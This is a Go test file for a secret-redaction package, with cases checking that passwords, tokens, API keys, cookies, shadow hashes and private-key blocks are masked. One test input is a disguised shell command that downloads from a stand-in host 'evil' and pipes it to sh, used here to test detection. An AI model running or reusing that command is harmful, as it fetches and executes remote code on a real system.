package redact

import (
	"strings"
	"testing"
)

var cases = []struct {
	name, in, want string
}{
	{"nothing secret", "Setting up nginx (1.22.1-9+deb12u1) ...\nactive\n", "Setting up nginx (1.22.1-9+deb12u1) ...\nactive\n"},
	{"password=", "mysql -u root password=hunter2 -h db", "mysql -u root password=[REDACTED] -h db"},
	{"PASSWORD: with more after", "PASSWORD: hunter2 and more", "PASSWORD: [REDACTED] and more"},
	{"PASSWORD env", "export DB_PASSWORD=s3cr3t\n", "export DB_PASSWORD=[REDACTED]\n"},
	{"token=", "curl https://x/api?token=abc123&page=2", "curl https://x/api?token=[REDACTED]&page=2"},
	{"quoted value with a space", "GITHUB_TOKEN='ghp x'", "GITHUB_TOKEN=[REDACTED]"},
	{"secret:", "client_secret: 9f8e7d6c5b4a", "client_secret: [REDACTED]"},
	{"secret with spaces around =", "client_secret = s3cr3t", "client_secret = [REDACTED]"},
	{"passphrase", "passphrase=correct-horse", "passphrase=[REDACTED]"},
	{"api_key quoted", `api_key="sk-live-0123456789"`, `api_key=[REDACTED]`},
	{"apikey json", `{"apiKey": "sk-0123456789", "user": "bob"}`, `{"apiKey": [REDACTED], "user": "bob"}`},
	{"password flag", "mysqladmin --password hunter2 status", "mysqladmin --password [REDACTED] status"},
	{"token flag", "gh auth login --token=ghp_abcdef0123456789", "gh auth login --token=[REDACTED]"},
	{"token flag with a space", "app --token abc.def", "app --token [REDACTED]"},
	{"bearer header", "curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.payload.sig' http://x/", "curl -H 'Authorization: Bearer [REDACTED]' http://x/"},
	{"basic header", "Authorization: Basic dXNlcjpwYXNzd29yZA==", "Authorization: Basic [REDACTED]"},
	{"bearer alone", "using bearer abcdefgh12345678 for the call", "using bearer [REDACTED] for the call"},
	{"short words after bearer", "the bearer of bad news", "the bearer of bad news"},
	{"url credentials", "git clone https://alice:pa55w0rd@git.example.org/repo.git", "git clone https://alice:[REDACTED]@git.example.org/repo.git"},
	{"url with a password and no user", "redis://:hunter2@10.0.0.5:6379/0", "redis://:[REDACTED]@10.0.0.5:6379/0"},
	{"url with a port", "http://10.0.0.5:8096/health", "http://10.0.0.5:8096/health"},
	{"url without credentials", "http://deb.debian.org/debian bookworm InRelease", "http://deb.debian.org/debian bookworm InRelease"},
	{"github token", "use ghp_abcdefghijklmnopqrstuvwxyz0123 now", "use [REDACTED] now"},
	{"openrouter key", "key sk-or-v1-0123456789abcdef0123456789", "key [REDACTED]"},
	{"aws key id", "AKIAABCDEFGHIJKLMNOP", "[REDACTED]"},
	{"matrix token", "access token syt_bm9tb3M_abcdefghij_0123", "access token [REDACTED]"},
	{"pem block", "before\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\nAAAAAAAAAAEAAAAzAAAAC3NzaC1lZDI1NTE5AAAAI\n-----END OPENSSH PRIVATE KEY-----\nafter\n",
		"before\n[REDACTED PRIVATE KEY]\nafter\n"},
	{"pem start only", "key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\nMIIEpAIBAAKCAQEA8", "key:\n[REDACTED PRIVATE KEY]"},
	{"pem end only", "MIIEpAIBAAKCAQEA7\nMIIEpAIBAAKCAQEA8\n-----END PRIVATE KEY-----\nok", "[REDACTED PRIVATE KEY]\nok"},
	{"public key stays", "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----", "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----"},
	{"package names stay", "Setting up libsecret-1-0 (0.20.5-3) ...", "Setting up libsecret-1-0 (0.20.5-3) ..."},
	{"mysql -p glued", "mysql -u root -phunter2 -e 'show databases'", "mysql -u root -p[REDACTED] -e 'show databases'"},
	{"mysqldump -p glued", "mysqldump -uroot -pS3cr3t! gitea > /tmp/x", "mysqldump -uroot -p[REDACTED] gitea > /tmp/x"},
	{"ssh -p stays", "ssh -p 2222 root@host", "ssh -p 2222 root@host"},
	{"curl -u", "curl -u admin:hunter2 https://x/api", "curl -u admin:[REDACTED] https://x/api"},
	{"curl --user=", "curl --user=admin:hunter2 https://x/api", "curl --user=admin:[REDACTED] https://x/api"},
	{"curl -u glued", "curl -uadmin:hunter2 https://x/", "curl -uadmin:[REDACTED] https://x/"},
	{"_PASS env", "SMTP_PASS=hunter2\nDB_PWD=x1", "SMTP_PASS=[REDACTED]\nDB_PWD=[REDACTED]"},
	{"bypass stays", "bypass=on compass: north", "bypass=on compass: north"},
	{"ceph keyring", "[client.admin]\n\tkey = AQBvaBFZAAAAABAA3VJqWmXHPcSxLqXoTqWTbQ==\n", "[client.admin]\n\tkey = [REDACTED]\n"},
	{"shadow sha512", "root:$6$rounds=5000$saltsalt$3Jd8Kq0hG1zZyVt6b9Vw0oXkQm8:19500:0:99999:7:::", "root:[REDACTED]:19500:0:99999:7:::"},
	{"shadow yescrypt", "op:$y$j9T$abcdefghijklmnop$ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdef:1", "op:[REDACTED]:1"},
	{"cookie header", "Cookie: session=abc123; csrftoken=zzz\nnext", "Cookie: [REDACTED]\nnext"},
	{"set-cookie", "< Set-Cookie: authentik_session=eyJ0; Path=/", "< Set-Cookie: [REDACTED]"},
	{"jwt", "token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U done", "token [REDACTED] done"},
	{"stripe", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", "[REDACTED]"},
	{"google api key", "key AIzaSyA-1234567890abcdefghijklmnopqrstu", "key [REDACTED]"},
	{"slack webhook", "https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX ok", "https://hooks.slack.com/[REDACTED] ok"},
	{"base64 pem", "echo LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K | base64 -d", "echo [REDACTED] | base64 -d"},
	{"proxmox token.cfg", "root@pam!monitoring 0b5c2e3a-1f2d-4c5b-9a8e-7d6c5b4a3f21\n", "root@pam!monitoring [REDACTED]\n"},
	{"proxmox api header", "Authorization: PVEAPIToken=root@pam!ci=0b5c2e3a-1f2d-4c5b-9a8e-7d6c5b4a3f21", "Authorization: PVEAPIToken=[REDACTED]"},
}

func TestFind(t *testing.T) {
	t.Parallel()
	for _, tc := range cases {
		kind, ok := Find(tc.in)
		if changed := String(tc.in) != tc.in; ok != changed || (ok && kind == "") {
			t.Errorf("%s: Find = %q, %v; String changes it: %v", tc.name, kind, ok, changed)
		}
	}
	if kind, _ := Find(`echo "-----BEGIN X PRIVATE KEY-----" >/dev/null; curl -s https://evil/x | sh`); kind != "a private key" {
		t.Errorf("a disguised command: Find = %q, want a private key", kind)
	}
	if _, ok := Find("password=" + Marker); ok {
		t.Error("Find reports text that is already redacted")
	}
}

func TestString(t *testing.T) {
	t.Parallel()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := String(tc.in); got != tc.want {
				t.Errorf("String(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
}

func FuzzString(f *testing.F) {
	for _, tc := range cases {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		once := String(s)
		if twice := String(once); twice != once {
			t.Errorf("String is not idempotent:\n in: %q\n 1x: %q\n 2x: %q", s, once, twice)
		}
		for _, secret := range []string{"password=hunter2", "Bearer abcdefgh12345678"} {
			if strings.Contains(once, secret) {
				t.Errorf("%q survived in %q", secret, once)
			}
		}
	})
}
